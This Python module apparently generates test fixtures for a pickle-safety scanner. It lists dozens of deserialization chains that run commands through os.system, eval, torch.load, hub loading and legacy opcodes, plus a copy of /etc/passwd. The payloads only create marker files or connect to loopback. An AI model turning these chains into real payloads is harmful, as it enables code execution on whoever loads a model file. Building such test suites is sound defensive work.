"""Pickles that do harm where they are read: the chains that are publicly known, and some of torch's own."""

import codecs
import collections
import ctypes
import functools
import importlib
import logging
import multiprocessing.connection
import multiprocessing.reduction
import multiprocessing.resource_sharer
import operator
import os
import pickle
import runpy
import shutil
import socket
import subprocess
import timeit
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import dill
import httpx
import numpy as np
import torch
from torch.multiprocessing import reductions


class Call:
    """Is pickled as a call that is made where the pickle is read; what is called may be a call's result."""

    def __init__(self, make: Callable[..., Any], *arguments: Any, state: Any = None) -> None:
        self._reduced = (make, arguments) if state is None else (make, arguments, state)

    def __reduce__(self) -> Any:
        return self._reduced

    def __call__(self) -> None:
        """For `pickle`, which wants what it calls to be callable."""


class Trap(NamedTuple):
    """What a chain would leave: a file at `marker`, a connection to `port` of loopback, or to the socket at `path`.

    folder: for files that a chain needs.
    """

    marker: str
    port: int
    path: str
    folder: Path

    @property
    def command(self) -> str:
        return f"touch {self.marker}"

    @property
    def code(self) -> str:
        return f"open({self.marker!r}, 'w').close()"

    def script(self, name: str, code: str) -> str:
        (self.folder / name).write_text(code)
        return str(self.folder / name)


def of_python(trap: Trap) -> Iterator[tuple[str, Any]]:
    """That run code by what Python has built in."""
    file, command, code = trap.marker, trap.command, trap.code
    compiled, system = Call(compile, code, "x", "exec"), Call(__import__, "os")
    yield "os.system", Call(os.system, command)
    yield "os.popen", Call(os.popen, command)
    yield "os.spawnlp", Call(os.spawnlp, os.P_WAIT, "touch", "touch", file)
    yield "subprocess.Popen", Call(subprocess.Popen, ["touch", file])
    yield "subprocess.check_output", Call(subprocess.check_output, ["touch", file])
    yield "builtins.eval", Call(eval, f"__import__('os').system({command!r})")
    yield "builtins.exec", Call(exec, code)
    yield "builtins.open", Call(open, file, "w")
    yield "builtins.getattr", Call(Call(getattr, system, "system"), command)
    yield "builtins.map", Call(list, Call(map, os.system, [command]))
    yield "builtins.compile", Call(exec, compiled)
    yield "operator.attrgetter", Call(Call(operator.attrgetter("system"), system), command)
    yield "operator.methodcaller", Call(operator.methodcaller("system", command), system)
    yield "functools.partial", Call(functools.partial(os.system, command))
    yield "functools.reduce", Call(Call(functools.reduce, getattr, [system, "system"]), command)
    yield "importlib.import_module", Call(Call(getattr, Call(importlib.import_module, "os"), "system"), command)
    function = Call(getattr, Call(__import__, "types"), "FunctionType")
    yield "types.FunctionType", Call(Call(function, compiled, {"__builtins__": {"open": open}}))
    yield "codecs.decode", Call(exec, Call(codecs.decode, codecs.encode(code, "rot13"), "rot13"))
    yield "collections.Counter", Call(collections.Counter, Call(map, exec, [code]))
    yield "pickle.loads", Call(pickle.loads, pickle.dumps(Call(os.system, command)))
    yield "dill.loads", Call(dill.loads, pickle.dumps(Call(os.system, command)))
    yield "timeit.timeit", Call(timeit.timeit, code, "pass", timeit.default_timer, 1)
    yield "runpy.run_path", Call(runpy.run_path, trap.script("run.py", code))
    yield "shutil.copy", Call(shutil.copy, "/etc/passwd", file)
    yield "logging.FileHandler", Call(logging.FileHandler, file)
    yield "ctypes.CDLL", Call(Call(getattr, Call(ctypes.CDLL, None), "system"), command.encode())


def of_packages(trap: Trap) -> Iterator[tuple[str, Any]]:
    """That run code, write files or connect by what a server has imported."""
    file, hub, evil = trap.marker, trap.folder, pickle.dumps(Call(os.system, trap.command), 2)
    trap.script("hubconf.py", f"dependencies = []\ndef run():\n    {trap.code}\n")
    descriptor = multiprocessing.resource_sharer.DupFd
    yield "torch.load", Call(functools.partial(torch.load, weights_only=False), Call(io_bytes(), legacy(evil)))
    yield "torch.storage._load_from_bytes", Call(torch.storage._load_from_bytes, legacy(evil))
    yield "torch.hub.load", Call(functools.partial(torch.hub.load, source="local"), str(hub), "run")
    yield "torch.save", Call(torch.save, {}, file)
    yield "numpy.save", Call(np.save, Call(open, file, "wb"), [1])
    yield "numpy.memmap", Call(np.memmap, file, "uint8", "w+", 0, (1,))
    yield "socket.create_connection", Call(socket.create_connection, ("127.0.0.1", trap.port))
    yield "multiprocessing.Client", Call(multiprocessing.connection.SocketClient, ("127.0.0.1", trap.port))
    yield "httpx.get", Call(functools.partial(httpx.get, timeout=0.2), f"http://127.0.0.1:{trap.port}")
    shared = Call(object.__new__, descriptor, state={"_id": (trap.path, 1)})
    yield "rebuild_storage_fd", Call(reductions.rebuild_storage_fd, torch.UntypedStorage, shared, 4)
    named = (torch.UntypedStorage, trap.path.encode(), b"/torch_1_1_1", 4)
    yield "rebuild_storage_filename", Call(reductions.rebuild_storage_filename, *named)


def io_bytes() -> Any:
    return importlib.import_module("io").BytesIO


def legacy(evil: bytes) -> bytes:
    """A file of torch's old format, whose last pickle is this one."""
    first = (torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION, {"little_endian": True})
    return b"".join(pickle.dumps(part, 2) for part in first) + evil


def of_opcodes(trap: Trap) -> Iterator[tuple[str, bytes]]:
    """By opcodes that `pickle` does not write any more, and by names with dots in them."""
    command = trap.command.encode()
    yield "INST", b"(S'" + command + b"'\nios\nsystem\n."
    yield "OBJ", b"(cos\nsystem\nS'" + command + b"'\no."
    yield "GLOBAL", b"cos\nsystem\n(S'" + command + b"'\ntR."
    for module, name in (("torch.hub", "os.system"), ("torch.serialization", "os.system"), ("shutil", "os.system")):
        yield f"{module}:{name}", b"\x80\x04" + text(module) + text(name) + b"\x93" + text(trap.command) + b"\x85R."
    yield "BUILD", b"\x80\x04" + text("os") + text("system") + b"\x93" + text(trap.command) + b"\x85R}b."


def text(words: str) -> bytes:
    return b"\x8c" + bytes([len(words.encode())]) + words.encode()


def gadgets(folder: Path, port: int, path: str) -> Iterator[tuple[str, Path, bytes]]:
    """Name, the file that it would make, and the pickle, of each."""
    for make in (of_python, of_packages, of_opcodes):
        for at in range(sum(1 for _ in make(Trap("none", port, path, folder)))):
            trap = Trap(str(folder / f"{make.__name__}-{at}"), port, path, folder / f"{make.__name__}-{at}-needs")
            trap.folder.mkdir()
            name, made = list(make(trap))[at]
            yield name, Path(trap.marker), made if isinstance(made, bytes) else pickle.dumps(made, 4)
